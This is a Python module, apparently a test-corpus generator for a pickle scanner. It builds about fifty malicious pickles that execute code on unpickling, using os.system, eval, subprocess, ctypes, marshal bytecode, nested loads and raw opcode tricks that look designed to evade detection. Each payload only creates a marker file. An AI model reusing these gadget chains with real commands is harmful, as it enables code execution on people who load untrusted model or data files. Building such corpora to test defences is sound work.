"""Pickles that run code where Python reads them, each of another kind: built here, never kept as files."""

import marshal
import struct
from dataclasses import dataclass
from typing import Any


@dataclass(frozen=True)
class Name:
    """A function or class, named by its module and its name."""

    module: str
    name: str


@dataclass(frozen=True)
class Call:
    """What calling something gives."""

    maker: Any
    arguments: tuple


def call(maker, *arguments):
    """`call("os.system", "…")`: a call, its maker named by text or itself the value of another call."""
    return Call(Name(*maker.rsplit(".", 1)) if isinstance(maker, str) else maker, arguments)


def method(target, name, *arguments):
    """A method of a value, called."""
    return call(call("builtins.getattr", target, name), *arguments)


def emit(value) -> bytes:
    """The instructions that push a value."""
    if isinstance(value, Name):
        return f"c{value.module}\n{value.name}\n".encode()
    if isinstance(value, Call):
        return emit(value.maker) + b"(" + b"".join(map(emit, value.arguments)) + b"tR"
    if isinstance(value, list):
        return b"](" + b"".join(map(emit, value)) + b"e"
    if isinstance(value, dict):
        return b"}(" + b"".join(emit(part) for pair in value.items() for part in pair) + b"u"
    if isinstance(value, int):
        return b"K" + bytes([value])
    data = value if isinstance(value, bytes) else value.encode()
    return (b"B" if isinstance(value, bytes) else b"X") + struct.pack("<I", len(data)) + data


def whole(value) -> bytes:
    """A pickle of a value."""
    return b"\x80\x03" + emit(value) + b"."


def _python(path):
    return f"open({path!r}, 'w').close()"


def _touch(path):
    return f"touch {path}"


CALLS = {  # kind: path → a value that makes a file there on its way
    "os.system": lambda p: call("os.system", _touch(p)),
    "posix.system": lambda p: call("posix.system", _touch(p)),
    "eval": lambda p: call("builtins.eval", _python(p)),
    "exec": lambda p: call("builtins.exec", _python(p)),
    "open": lambda p: call("builtins.open", p, "w"),
    "io": lambda p: call("io.open", p, "w"),
    "subprocess": lambda p: call("subprocess.check_output", ["touch", p]),
    "runpy": lambda p: call("runpy._run_code", _python(p), {}),
    "code interpreter": lambda p: method(call("code.InteractiveInterpreter"), "runsource", _python(p)),
    "importlib": lambda p: method(call("importlib.import_module", "os"), "system", _touch(p)),
    "__import__": lambda p: method(call("builtins.__import__", "os"), "system", _touch(p)),
    "map in list": lambda p: call("builtins.list", call("builtins.map", Name("os", "system"), [_touch(p)])),
    "map in set": lambda p: call("builtins.set", call("builtins.map", Name("os", "system"), [_touch(p)])),
    "map in dict": lambda p: call("collections.OrderedDict", call("builtins.map", Name("os", "system"), [_touch(p)])),
    "map in tuple": lambda p: call("torch.Size", call("builtins.map", Name("os", "system"), [_touch(p)])),
    "map in bytearray": lambda p: call("builtins.bytearray", call("builtins.map", Name("os", "system"), [_touch(p)])),
    "functools.reduce": lambda p: call("functools.reduce", Name("builtins", "open"), [p, "w"]),
    "functools.partial": lambda p: call(call("functools.partial", Name("os", "system"), _touch(p))),
    "methodcaller": lambda p: call(call("operator.methodcaller", "touch"), call("pathlib.PosixPath", p)),
    "pickle in a pickle": lambda p: call("pickle.loads", whole(call("os.system", _touch(p)))),
    "logging": lambda p: call("logging.FileHandler", p),
    "shutil": lambda p: call("shutil.copyfile", "/dev/null", p),
    "sqlite": lambda p: method(call("sqlite3.connect", p), "execute", "create table a (b)"),
    "numpy": lambda p: call("numpy.savetxt", p, [1]),
    "torch.save": lambda p: call("torch.save", 1, p),
    "torch.storage of a pickle": lambda p: call("torch.storage._load_from_bytes", whole(call("os.system", _touch(p)))),
    "compile": lambda p: call("builtins.exec", call("builtins.compile", _python(p), "x", "exec")),
    "timeit": lambda p: call("timeit.timeit", _python(p), "pass", Name("time", "perf_counter"), 1),
    "profile": lambda p: call("cProfile.run", _python(p)),
    "debugger": lambda p: method(call("bdb.Bdb"), "run", _python(p)),
    "namedtuple": lambda p: call("collections.namedtuple", "a", [], call("os.system", _touch(p))),
    "defaultdict": lambda p: method(
        call("collections.defaultdict", call("functools.partial", Name("os", "mkdir"), p)), "__missing__", 1
    ),
}
CALLS |= {
    "ctypes": lambda p: method(call("ctypes.CDLL", "libc.so.6"), "system", _touch(p).encode()),
    "attrgetter": lambda p: call(
        call(call("operator.attrgetter", "system"), call("importlib.import_module", "os")), _touch(p)
    ),
    "itemgetter": lambda p: call(
        call(call("operator.itemgetter", "system"), call("builtins.vars", call("builtins.__import__", "os"))), _touch(p)
    ),
    "pydoc": lambda p: call(call("pydoc.locate", "os.system"), _touch(p)),
    "bytecode": lambda p: call(
        call("types.FunctionType", call("marshal.loads", marshal.dumps(compile(_python(p), "x", "exec"))), {})
    ),
    "pathlib": lambda p: method(call("pathlib.PosixPath", p), "write_text", "x"),
    "multiprocessing": lambda p: call("multiprocessing.util.spawnv_passfds", b"/bin/touch", ["touch", p], []),
    "codecs": lambda p: call("codecs.open", p, "w"),
    "weakref": lambda p: call(call("weakref.finalize", Name("io", "StringIO"), Name("os", "system"), _touch(p))),
}
RAW = {  # instructions that calls do not use
    "a name of Python 2": lambda p: b"\x80\x02" + emit(call("__builtin__.eval", _python(p))) + b".",
    "INST": lambda p: b"(S'touch " + p.encode() + b"'\nios\nsystem\n.",
    "OBJ": lambda p: b"(" + emit(Name("logging", "FileHandler")) + emit(p) + b"o.",
    "NEWOBJ": lambda p: (
        b"\x80\x02"
        + emit(Name("_io", "FileIO"))
        + b"("
        + emit(p)
        + emit("w")
        + b"tR0"
        + emit(Name("builtins", "object"))
        + b")\x81."
    ),
    "NEWOBJ_EX": lambda p: (
        b"\x80\x04" + emit(Name("numpy", "memmap")) + emit(p) + b"\x85" + emit({"mode": "w+", "shape": 1}) + b"\x92."
    ),
    "dotted name": lambda p: b"\x80\x04" + emit("os") + emit("path.os.system") + b"\x93(" + emit(_touch(p)) + b"tR.",
    "BUILD": lambda p: (
        b"\x80\x02"
        + emit(call("builtins.__import__", "os"))
        + b"0"
        + emit(Name("pdb", "Pdb"))
        + b")\x81"
        + emit(call("os.mkdir", p))
        + b"b."
    ),
    "memo": lambda p: b"\x80\x02" + emit(Name("os", "system")) + b"q\x07" + b"0h\x07(" + emit(_touch(p)) + b"tR.",
    "extension": lambda p: (
        b"\x80\x02" + emit(call("copyreg.add_extension", "os", "mkdir", 77)) + b"0\x82M(" + emit(p) + b"tR."
    ),
}
KINDS = {**{kind: (lambda p, make=make: whole(make(p))) for kind, make in CALLS.items()}, **RAW}
"""Kind → (path → pickle)."""
